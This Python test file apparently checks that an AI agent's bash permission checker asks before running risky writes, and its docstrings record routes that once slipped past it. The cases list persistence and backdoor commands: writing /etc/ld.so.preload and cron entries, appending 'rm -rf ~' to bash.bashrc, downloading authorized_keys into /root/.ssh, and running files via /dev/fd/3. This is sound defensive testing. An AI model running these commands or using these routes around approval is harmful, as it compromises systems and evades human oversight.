"""probeapprove23c: what bash wrote or ran unasked after "always" that runs later: writes
outside the write tool's reach (the system's start-up and PATH locations, a home's hidden
entries and bin), writers the destination rule did not read (tar -C / unzip -d extraction,
find -fprint), a written file run through a descriptor's path (/dev/fd/3); and the ordinary
work next to each that must still run unasked. The check is a pure function: every variant
in one process."""

from __future__ import annotations

from destructive_support import asking as _asking
from destructive_support import missed as _missed


def test_writes_to_the_systems_start_up_and_path_locations_and_a_homes_hidden_entries_ask() -> None:
    """write_rules lists what a workspace holds; bash also reaches /etc, /usr and the homes
    (~ is refused by the parser, /root/... is not): each ran unasked before."""
    system = "is the system's configuration or installed programs"
    home = "a hidden entry or the bin of a home directory"
    hidden = {
        "echo /tmp/x.so > /etc/ld.so.preload": f"> /etc/ld.so.preload: /etc/ld.so.preload {system}",
        "cp x /etc/profile.d/a.sh": f"cp writes /etc/profile.d/a.sh: /etc/profile.d/a.sh {system}",
        "echo 'rm -rf ~' >> /etc/bash.bashrc": system,
        "sudo tee /etc/cron.d/a < x": f"tee writes /etc/cron.d/a: /etc/cron.d/a {system}",
        "cp x /var/spool/cron/crontabs/root": system,
        "install -m 755 x /usr/local/bin/git": system,
        "cp x /root/.curlrc": f"/root/.curlrc is /root/.curlrc or inside it, {home}",
        "cp x /home/u/.wgetrc": home,
        "cp lk /root/.config/lesskey": "/root/.config/lesskey is /root/.config or inside it",
        "cp x /root/.cargo/config.toml": home,
        "ln -sf ./x /home/u/bin/ls": "/home/u/bin/ls is /home/u/bin or inside it",
        "cp x.py /root/.ipython/profile_default/startup/": home,
    }
    assert _missed(hidden) == []
    ordinary = (
        "echo x > /tmp/out.txt",
        "cp a /work/p/b",
        "cp x /home/u/notes.txt",
        "echo x > /home/u/proj/out.txt",
        "cat /etc/passwd > users.txt",
        "cp /etc/hosts hosts.copy",
        "ls /usr/bin > bins.txt",
    )
    assert _asking(ordinary) == []


def test_extraction_and_find_destinations_are_judged_as_writes() -> None:
    """tar -C DIR -x and unzip -d DIR write the archive's (unread) members into DIR, find
    -fprint*/-fls write the file named: none was a destination, so .ssh, .vscode or a home's
    start-up files were written unasked."""
    hidden = {
        "tar -xf a.tar -C /root/.ssh": "tar writes /root/.ssh: '/root/.ssh' is inside .ssh/",
        "tar --directory=/root/.ssh -xf a.tar": "tar writes /root/.ssh",
        "tar xf a.tar -C/home/u/.ssh": "tar writes /home/u/.ssh",
        "tar --extract -f a.tar -C /root": "tar writes /root/.*",
        "unzip a.zip -d .vscode": "unzip writes .vscode",
        "unzip -d /root/.ssh a.zip": "unzip writes /root/.ssh",
        "find . -fprint /root/.bashrc": "find writes /root/.bashrc",
        "find . -fprintf .vscode/tasks.json '%p'": "find writes .vscode/tasks.json",
    }
    assert _missed(hidden) == []
    ordinary = (
        "bsdtar -xzf a.tgz -C build",
        "tar -czf a.tgz -C /root/.ssh .",
        "tar cf a.tar -C /root .",
        "bsdtar -xf a.zip -C out",
        "find . -name '*.py' -fprint files.txt",
    )
    assert _asking(ordinary) == []


def test_a_written_file_run_through_its_descriptors_path_asks() -> None:
    """/dev/fd/N and /proc/self/fd/N name the file descriptor N holds: the check compared the
    word with what the line wrote, so a file written then opened on 3 (by exec for the rest
    of the line, or the command's own 3<) and run as /dev/fd/3 ran unasked."""
    ran = "runs x.txt, which this command line writes first"
    hidden = {
        "printf 'touch p' > x.txt; exec 3<x.txt; source /dev/fd/3": ran,
        "printf 'touch p' > x.txt; exec 3<x.txt; bash /proc/self/fd/3": ran,
        "printf 'touch p' > x.txt; bash /dev/fd/3 3<x.txt": ran,
        "printf 'touch p' > x.txt; . /proc/thread-self/fd/4 4< x.txt": ran,
        "printf 'touch p' > x.txt; exec 3<x.txt 4<&3; python3 /dev/fd/4": ran,
    }
    assert _missed(hidden) == []
    ordinary = (
        "printf 'touch p' > x.txt; exec 3<x.txt; cat /dev/fd/3",
        "exec 3<input.txt; bash /dev/fd/3",
        "printf 'touch p' > x.txt; exec 3<x.txt; exec 3<&-; bash /dev/fd/3",
        "cat /dev/stdin < x.txt",
    )
    assert _asking(ordinary) == []


def test_in_place_editors_fetchers_and_clones_name_their_destinations() -> None:
    """sed -i, sponge and patch write the files they name, curl -O and wget save a URL under
    its own name (in --output-dir / -P), git clone makes its directory: none was read as a
    destination, so .bashrc, .ssh, .vscode or .mcp.json were written unasked."""
    hidden = {
        "sed -i 's/x/y/' /root/.bashrc": "sed writes /root/.bashrc",
        "sed -i.bak -e 's/x/y/' .vscode/tasks.json": "sed writes .vscode/tasks.json",
        "sed -ni 's/x/y/p' .env": "sed writes .env: '.env' is a secrets file",
        "sponge /root/.bashrc < x": "sponge writes /root/.bashrc",
        "patch -p1 -d /root/.ssh < p.diff": "patch writes /root/.ssh",
        "curl -O --output-dir /root/.ssh https://e.com/authorized_keys": "curl writes /root/.ssh",
        "curl -LO https://e.com/.bashrc": "curl writes ./.bashrc",
        "wget --directory-prefix=.vscode https://e.com/tasks.json": "wget writes .vscode",
        "wget https://e.com/.mcp.json": "wget writes ./.mcp.json",
        "git clone https://e.com/r.git .vscode": "git writes .vscode",
    }
    assert _missed(hidden) == []
    ordinary = (
        "sed -i 's/x/y/' src/a.py",
        "sed -n 's/x/y/p' /root/.bashrc",
        "sponge out.txt < x",
        "patch -p1 < p.diff",
        "curl -LO https://e.com/a.tgz",
        "curl -s https://e.com/.bashrc",
        "wget -qO- https://e.com/.mcp.json",
        "wget -P dl https://e.com/a.tgz?x=1",
        "git clone https://e.com/r.git src/r",
    )
    assert _asking(ordinary) == []
